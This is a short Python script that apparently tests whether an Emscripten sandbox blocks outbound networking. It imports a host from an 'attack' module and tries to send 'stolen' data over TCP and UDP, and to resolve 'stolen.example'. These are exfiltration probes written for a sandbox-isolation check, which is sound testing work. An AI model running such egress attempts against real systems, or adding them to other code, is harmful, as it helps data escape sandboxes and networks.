# Emscripten plays a network: connecting may seem to work, and nothing is sent.
import socket

from attack import HOST, does

ADDRESS = HOST.split(":")[0], int(HOST.split(":")[1])


def send():
    with socket.create_connection(ADDRESS, timeout=1) as line:
        line.sendall(b"GET /stolen HTTP/1.1\r\n\r\n")


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"stolen", ADDRESS)


does("a socket", send)
does("a datagram", datagram)
does("a name", lambda: socket.gethostbyname("stolen.example"))
